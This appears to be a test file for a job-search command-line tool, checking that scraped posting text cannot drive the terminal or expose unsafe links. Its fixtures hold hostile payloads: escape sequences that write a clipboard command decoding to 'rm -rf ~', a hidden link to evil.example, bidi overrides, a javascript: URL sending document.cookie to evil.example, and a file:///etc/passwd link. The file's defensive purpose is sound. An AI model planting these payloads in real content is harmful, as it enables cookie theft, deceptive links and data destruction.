import { openDatabase } from '../../src/db/database.js';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertPosting } from '../helpers/postings.js';
import { expectNoStackTrace, registeredHome, runDjs, type DjsResult } from '../helpers/cli.js';

/**
 * Scraped text that tries to drive the terminal (issue 10, broken item 1): postings whose title, company,
 * location and description carry OSC/CSI sequences, C1 controls, bidi overrides and the private-use
 * characters the Markdown renderer once mapped back to C0, printed by the real CLI in every format.
 */

const PWNED_VIA_PRIVATE_USE = '\ue01b]0;PWNED\ue007';
const CLIPBOARD = '\u001b]52;c;cm0gLXJmIH4K\u0007';
const HIDDEN_LINK = '\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007';
const C1_CSI = '\u009b2J\u009b31m';
const RIGHT_TO_LEFT = '\u202etxt.exe\u202c \u2066isolated\u2069';
const ALL = [PWNED_VIA_PRIVATE_USE, CLIPBOARD, HIDDEN_LINK, C1_CSI, RIGHT_TO_LEFT].join(' ');

const HOSTILE = {
  jobId: '4000000001',
  title: `Python ${PWNED_VIA_PRIVATE_USE} Developer ${C1_CSI}${RIGHT_TO_LEFT}`,
  company: `Acme ${CLIPBOARD}${HIDDEN_LINK}`,
  location: `Berlin ${RIGHT_TO_LEFT}`,
  description: `## About ${PWNED_VIA_PRIVATE_USE}\n\nPython with **us** ${ALL}\n\n- ${CLIPBOARD} bullet\n- C\\+\\+`,
  salary: `€1 ${C1_CSI}`,
  applyUrl: 'javascript:fetch(`//evil.example/?`+document.cookie)',
  companyUrl: 'file:///etc/passwd',
};

/**
 * The bytes a terminal acts on: ESC (0x1b), BEL and the other C0 controls but tab and newline, DEL, C1
 * (UTF-8 C2 80–C2 9F) and the bidi controls (E2 80 AA–AE, E2 81 A6–A9). Checked on the decoded text, where
 * each of those byte sequences is exactly one of these code points.
 */
const TERMINAL_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
/** Our own SGR codes (Output.style): the only escape sequences a coloured run may contain. */
const OUR_SGR = /\u001b\[(?:1|2|22|31|32|33|36|39)m/g;

function expectTerminalSafe(text: string): void {
  const unsafe = TERMINAL_UNSAFE.exec(text.replace(OUR_SGR, ''));
  if (unsafe) {
    const at = unsafe.index;
    throw new Error(
      `U+${unsafe[0].charCodeAt(0).toString(16).padStart(4, '0')} reached the output at ${at}: ${JSON.stringify(text.slice(Math.max(0, at - 30), at + 30))}`,
    );
  }
}

let template: Awaited<ReturnType<typeof registeredHome>>;
let home: string;

beforeAll(async () => {
  template = await registeredHome('ada@example.com');
  home = template.clone();
  const db = openDatabase(join(home, 'djs.db'));
  try {
    const ada = db.prepare('SELECT id FROM users').pluck().get() as number;
    insertPosting(db, ada, HOSTILE, '2025-04-01T00:00:00.000Z');
  } finally {
    db.close();
  }
});
afterAll(() => template?.cleanup());

async function djs(args: string[], env: Record<string, string | undefined> = {}): Promise<DjsResult> {
  const result = await runDjs(args, { home, env });
  expectNoStackTrace(result);
  expect(result.code, result.stderr).toBe(0);
  expectTerminalSafe(result.stderr);
  return result;
}

const COLOUR = { NO_COLOR: undefined, FORCE_COLOR: '1' };

describe('hostile scraped text never reaches the terminal as control codes', () => {
  for (const [label, env] of [
    ['plain', {}],
    ['in colour', COLOUR],
  ] as const) {
    it(`djs jobs show (${label})`, async () => {
      const { stdout } = await djs(['jobs', 'show', HOSTILE.jobId], env);
      expectTerminalSafe(stdout);
      expect(stdout).toContain('Python');
      expect(stdout).toContain('PWNED'); // the text stays readable; only the control codes are gone
      expect(stdout).toContain('C++');
      if (label === 'in colour') expect(stdout).toContain('\u001b[1m');
    });

    it(`djs search, the table (${label})`, async () => {
      const { stdout } = await djs(['search', 'python'], { ...env, COLUMNS: '200' });
      expectTerminalSafe(stdout);
      expect(stdout).toContain(HOSTILE.jobId);
    });
  }

  it('djs search --csv', async () => {
    const { stdout } = await djs(['search', 'python', '--csv']);
    expectTerminalSafe(stdout.replaceAll('\r\n', '\n'));
    expect(stdout.split('\r\n')[1]).toMatch(/^4000000001,1,python,/);
  });

  it('--json (search and jobs show): unsafe characters as \\u escapes, the values unchanged', async () => {
    const search = await djs(['search', 'python', '--json']);
    expectTerminalSafe(search.stdout);
    const [row] = JSON.parse(search.stdout) as Array<Record<string, unknown>>;
    expect(row).toMatchObject({ title: HOSTILE.title, company: HOSTILE.company, location: HOSTILE.location });

    const show = await djs(['jobs', 'show', HOSTILE.jobId, '--json']);
    expectTerminalSafe(show.stdout);
    const record = JSON.parse(show.stdout) as Record<string, unknown>;
    expect(record.job_description).toBe(HOSTILE.description);
    expect(record.job_title).toBe(HOSTILE.title);
  });

  it('a stored apply or company URL that is not http(s) is not shown', async () => {
    const show = await djs(['jobs', 'show', HOSTILE.jobId, '--json']);
    expect((JSON.parse(show.stdout) as Record<string, unknown>).apply_url).toBeNull();
    const text = (await djs(['jobs', 'show', HOSTILE.jobId])).stdout;
    expect(text).toMatch(/^Apply +—$/m);
    expect(text).toMatch(/^Company page +—$/m);
    expect(text).not.toContain('javascript:');
    expect(text).not.toContain('file:');
  });
});
